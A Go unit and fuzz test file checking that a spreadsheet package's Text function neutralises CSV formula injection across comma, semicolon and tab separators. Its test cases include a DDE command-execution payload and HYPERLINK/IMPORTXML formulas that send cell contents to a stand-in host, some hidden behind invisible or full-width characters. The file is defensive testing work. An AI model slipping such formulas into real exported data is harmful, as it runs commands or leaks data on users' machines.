package spreadsheet

import (
	"encoding/csv"
	"strings"
	"testing"
)

func TestTextIsNoFormula(t *testing.T) {
	const armed, harmless = true, false
	for _, c := range []struct {
		text    string
		formula bool
	}{
		{"=1+1", armed},
		{"=cmd|' /C calc'!A0", armed},
		{`=HYPERLINK("http://x.example/?"&A1,"click")`, armed},
		{`=IMPORTXML(CONCAT("http://x.example/",A1),"//a")`, armed},
		{"=DDE(\"cmd\";\"/C calc\")", armed},
		{"+1+1", armed},
		{"+49 30 1234567", armed},
		{"-1+1", armed},
		{"-3", armed},
		{"--", armed},
		{"@SUM(1+1)", armed},
		{"@someone thanks", armed},
		{"\t=1+1", armed},
		{"\tindented", armed},
		{"\r=1+1", armed},
		{"\n=1+1", armed},
		{"\x00=1+1", armed},
		{"\x01=1+1", armed},
		{" =1+1", armed},
		{"      @SUM(1)", armed},
		{"\u00a0=1+1", armed}, // no-break space
		{"\u3000=1+1", armed}, // ideographic space
		{"\u200b=1+1", armed}, // zero width space
		{"\ufeff=1+1", armed}, // byte order mark
		{"\u202e=1+1", armed}, // right-to-left override
		{"＝1+1", armed},
		{"＋1", armed},
		{"－1", armed},
		{"＠SUM(1)", armed},
		{" ＝1", armed},
		{"﹦1", armed},
		{"−1", armed}, // minus sign
		{" \t=1", armed},
		{" \n=1", armed},

		{"good;=1+1", harmless}, // one cell, because it is quoted
		{"good\t=1+1", harmless},
		{"good\",=1+1", harmless},
		{"good\n=1+1", harmless},
		{"a=1", harmless},
		{"1-1", harmless},
		{"'quoted'", harmless},
		{"  two spaces", harmless},
		{"\u00e9t\u00e9", harmless},
		{"   ", harmless},
		{"#REF!", harmless},
	} {
		cell := Text(c.text)
		// Separators of other countries must find no cell of their own either.
		for _, comma := range []rune{',', ';', '\t'} {
			read := csv.NewReader(strings.NewReader(cell + string(comma) + `"next"` + "\r\n"))
			read.Comma = comma
			record, err := read.Read()
			if err != nil || len(record) != 2 || record[1] != "next" {
				t.Errorf("%q is read as %q by %q: %v", cell, record, comma, err)
				continue
			}
			want := c.text
			if c.formula {
				want = "'" + want
			}
			if record[0] != want {
				t.Errorf("%q is read as %q by %q, want %q", cell, record[0], comma, want)
			}
			if !c.formula && strings.ContainsAny(record[0][:1], "=+-@\t\r\n\x00") {
				t.Errorf("%q is left armed", record[0])
			}
		}
	}
}

// FuzzText: whatever a person wrote is one cell, comes back whole, and does
// not begin a formula.
func FuzzText(f *testing.F) {
	f.Add("=1+1")
	f.Add("\" ,;\n＝")
	f.Fuzz(func(t *testing.T, text string) {
		record, err := csv.NewReader(strings.NewReader(Text(text) + ",end\r\n")).Read()
		if err != nil || len(record) != 2 {
			t.Fatalf("%q is read as %q: %v", text, record, err)
		}
		// The reader makes \n of \r\n.
		want := strings.ReplaceAll(text, "\r\n", "\n")
		if got := strings.TrimPrefix(record[0], "'"); got != strings.TrimPrefix(want, "'") {
			t.Fatalf("%q comes back as %q", text, record[0])
		}
		if startsFormula(record[0]) {
			t.Fatalf("%q begins a formula", record[0])
		}
	})
}
